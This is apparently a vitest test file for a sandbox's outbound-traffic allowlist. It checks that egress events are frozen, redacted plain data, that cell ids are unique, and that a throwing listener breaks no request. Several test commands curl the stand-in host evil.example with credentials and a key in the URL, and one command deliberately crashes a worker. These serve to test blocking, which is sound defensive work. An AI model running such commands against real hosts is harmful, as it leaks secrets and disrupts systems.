import { expect, it, vi } from 'vitest'
import { until } from '../../../faults/helpers.ts'
import { startServer } from '../../../strands-shell/support/http-server.ts'
import { ownFieldsOf } from '../../../support/event-fields.ts'
import { cellHost } from './helpers.ts'

it('events are plain data: the cell, the address without query and user, what was decided, how it ended', async () => {
  const server = await startServer()
  const { host, decisions, ends } = cellHost()
  const sandbox = await host.open({ allowedUrls: [`${server.origin}/`] })
  await sandbox.execute(`curl -s -d abc -u user:hush '${server.origin}/a?key=hush'`)
  await sandbox.execute("curl -s 'http://user:hush@evil.example/b?key=hush#hush'")
  await sandbox.execute("curl -s 'https://user:hush@evil.example/b?key=hush'")
  expect(decisions.map(ownFieldsOf)).toEqual([
    { allowed: true, cell: 'cell-1', method: 'POST', url: `${server.origin}/a`, address: '127.0.0.1' },
    { allowed: false, cell: 'cell-1', method: 'GET', url: 'http://evil.example/b', reason: 'NOT_ALLOWED' },
    { allowed: false, cell: 'cell-1', method: 'CONNECT', url: 'evil.example:443', reason: 'NOT_ALLOWED' },
  ])
  await vi.waitFor(() => expect(ends.length).toBe(1))
  const end = {
    cell: 'cell-1',
    method: 'POST',
    url: `${server.origin}/a`,
    status: 200,
    sent: 3,
    received: 18,
  }
  expect(ends.map(ownFieldsOf)).toEqual([{ ...end, duration: expect.any(Number) }])
  expect(structuredClone([...decisions, ...ends])).toEqual([...decisions, ...ends])
  expect([...decisions, ...ends].every((data) => Object.isFrozen(data))).toBe(true)
})

it('each cell has an id of its own, also one that replaces another', async () => {
  const { host, decisions } = cellHost({ maxCells: 2 })
  const ask = async (url: string) => {
    const sandbox = await host.open({ allowedUrls: [url] })
    await sandbox.execute('curl -s http://evil.example/')
    return sandbox
  }
  const first = await ask('http://a.example/')
  await ask('http://b.example/')
  const crash = await first.execute('echo | tail -n 100000000000').catch((error: unknown) => error)
  expect(crash).toMatchObject({ code: 'WORKER_LOST' })
  await ask('http://c.example/')
  expect(decisions.map(({ cell }) => cell)).toEqual(['cell-1', 'cell-2', 'cell-3'])
})

it('a listener that throws fails no request', async () => {
  const server = await startServer()
  const { host } = cellHost()
  const thrown: unknown[] = []
  const listeners = process.listeners('uncaughtException')
  process.removeAllListeners('uncaughtException')
  process.on('uncaughtException', (error) => thrown.push(error.message))
  host.on('egress', () => {
    throw new Error('of a listener')
  })
  const sandbox = await host.open({ allowedUrls: [`${server.origin}/`] })
  const { stdout } = await sandbox.execute(`curl -s ${server.origin}/x; curl -s http://evil.example/`)
  await until(() => thrown.length === 2)
  process.removeAllListeners('uncaughtException')
  for (const listener of listeners) process.on('uncaughtException', listener)
  expect([stdout.startsWith('hello /x\n'), stdout.includes('NOT_ALLOWED')]).toEqual([true, true])
  expect(thrown).toEqual(['of a listener', 'of a listener'])
})
